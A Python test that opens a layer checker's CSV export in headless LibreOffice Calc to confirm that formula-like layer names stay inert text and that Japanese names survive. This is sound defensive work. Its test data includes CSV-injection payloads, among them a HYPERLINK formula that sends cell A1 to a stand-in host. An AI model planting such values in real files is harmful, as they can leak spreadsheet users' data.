#!/usr/bin/env python3
"""The layer check's CSV opened by LibreOffice Calc (headless), as a user opens it in a spreadsheet.

    libreoffice_csv_test.py TIERMARK-CHECK DATABASE

A drawing (written with ezdxf) whose layers are named like formulas ("=HYPERLINK(...)", "=1+1", "+1",
"-1", "@SUM(...)") and in Japanese is checked with tiermark-check --csv; Calc opens the CSV with formulas
evaluated, and the sheet must hold no formula cell, every name readable as text and the Japanese intact.
The same names written raw would be formulas: a control file shows that the test sees them.
"""
import os
import subprocess
import sys
import tempfile
import xml.etree.ElementTree as ElementTree

import ezdxf

NAMES = [
    '=HYPERLINK("http://example.invalid/"&A1,"クリック")',
    "=1+1",
    "+1",
    "-1",
    "@SUM(1)",
    "構造物D-STR",
    "ﾎｱ現況地物",
]
TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
# Comma, double quote, UTF-8, from line 1, standard cells, quoted fields not forced to text, and (token 13)
# formulas evaluated: the reading that would turn a formula live.
EVALUATING = "CSV:44,34,76,1,,1041,false,false,false,false,false,-1,true"


def open_in_calc(csv, folder, profile):
    subprocess.run(["soffice", "-env:UserInstallation=file://" + profile, "--headless", "--norestore",
                    "--infilter=" + EVALUATING, "--convert-to", "fods", "--outdir", folder, csv],
                   check=True, capture_output=True, timeout=240)
    cells = []
    tree = ElementTree.parse(os.path.splitext(csv)[0] + ".fods")
    for cell in tree.iter("{%s}table-cell" % TABLE):
        text = "".join("".join(p.itertext()) for p in cell.iter("{%s}p" % TEXT))
        cells.append((cell.get("{%s}formula" % TABLE), text))
    return cells


def main():
    check, database = sys.argv[1], sys.argv[2]
    failures = []
    with tempfile.TemporaryDirectory() as folder:
        profile = os.path.join(folder, "profile")
        doc = ezdxf.new("R2000")
        doc.encoding = "cp932"
        doc.header["$DWGCODEPAGE"] = "ANSI_932"
        for i, name in enumerate(NAMES):
            layer = doc.layers.add("L%d" % i)
            layer.dxf.unprotected_set("name", name)
        drawing = os.path.join(folder, "図面.dxf")
        doc.saveas(drawing)
        csv = os.path.join(folder, "check.csv")
        run = subprocess.run([check, "--kind", "設計/道路/道路一般/位置図", "--database", database, "--csv", csv,
                              drawing], capture_output=True, text=True)
        print(run.stdout.strip())
        if run.returncode != 1:
            failures.append("tiermark-check exited %d (findings: 1): %s" % (run.returncode, run.stderr))

        # The control: the same names as raw CSV fields are formulas in Calc.
        control = os.path.join(folder, "control.csv")
        with open(control, "w", encoding="utf-8-sig", newline="") as f:
            f.write("".join('"%s"\r\n' % name.replace('"', '""') for name in NAMES[:2]))
        raw = open_in_calc(control, folder, profile)
        if not any(formula for formula, _ in raw):
            failures.append("control: Calc took no raw name as a formula, so the test would see nothing")

        cells = open_in_calc(csv, folder, profile)
        formulas = [(formula, text) for formula, text in cells if formula]
        for formula, text in formulas:
            failures.append("a formula cell: %s (%s)" % (formula, text))
        texts = [text for _, text in cells]
        for name in NAMES:
            if not any(text in (name, "'" + name) for text in texts):
                failures.append("no cell reads %r" % name)
        for japanese in ("判定", "図面の画層名", "標準外", "構造物D-STR", "ﾎｱ現況地物", "図面にない標準レイヤー"):
            if not any(japanese in text for text in texts):
                failures.append("the Japanese %r is not in the sheet" % japanese)
        print("Calc read %d cells of the CSV, %d formulas; the control had %d" %
              (len(cells), len(formulas), sum(1 for formula, _ in raw if formula)))
    for failure in failures:
        print("FAIL " + failure)
    print("%d passed, %d failed" % (0 if failures else 1, 1 if failures else 0))
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
